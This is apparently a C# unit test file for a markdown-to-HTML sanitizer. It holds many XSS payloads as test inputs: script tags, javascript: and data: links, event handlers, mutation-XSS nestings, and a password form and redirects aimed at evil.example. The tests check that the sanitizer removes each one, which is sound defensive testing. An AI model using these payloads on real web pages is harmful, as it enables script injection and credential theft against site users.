using WebLab.Web.Parts;

namespace WebLab.Web.Tests.Parts;

public sealed class NotesHtmlTests
{
    [Theory]
    [InlineData("**bold** and `code`", "<strong>bold</strong>")]
    [InlineData("# Title", "<h3>Title</h3>")]
    [InlineData("- one\n- two", "<li>one</li>")]
    [InlineData("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>")]
    [InlineData("[paper](https://arxiv.org/abs/1706.06083 \"Madry\")", "href=\"https://arxiv.org/abs/1706.06083\"")]
    [InlineData("[another](experiments/0192)", "<a href=\"experiments/0192\">another</a>")]
    [InlineData("see https://arxiv.org", "rel=\"noopener noreferrer nofollow\"")]
    [InlineData("~~gone~~ ==seen==", "<del>gone</del> <mark>seen</mark>")]
    public void Markdown_becomes_html(string text, string part) => Assert.Contains(part, NotesHtml.Of(text));

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java&#10;script:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)")]
    [InlineData("![x](https://evil.example/pixel.png)")]
    [InlineData("![x](x\" onerror=\"alert(1))")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src onerror=alert(1)>")]
    [InlineData("<style>body{background:url(//evil.example)}</style>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">x</p>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<form action=//evil.example><input name=password></form>")]
    [InlineData("<base href=//evil.example>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.example\">")]
    [InlineData("<details open ontoggle=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("[a]: javascript:alert(1)\n\n[a]")]
    [InlineData("| <script>alert(1)</script> |\n|---|\n| x |")]
    [InlineData("```html\n</code></pre><script>alert(1)</script>\n```")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    public void Nothing_that_runs_or_loads_is_left(string text)
    {
        var html = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{NotesHtml.Of(text)}</body>").Body!;
        Assert.All(html.QuerySelectorAll("*"), e =>
        {
            Assert.DoesNotContain(e.LocalName, (string[])["script", "style", "svg", "math", "img", "iframe", "form", "input", "base", "meta", "link", "object", "embed", "details", "noscript"]);
            Assert.All(e.Attributes, a => Assert.Contains(a.Name, (string[])["href", "title", "start", "rel", "target"]));
            if (e.GetAttribute("href") is { } href) Assert.Matches("^(https?://|mailto:|[A-Za-z0-9/#?._%-]*$)", href);
        });
    }
}
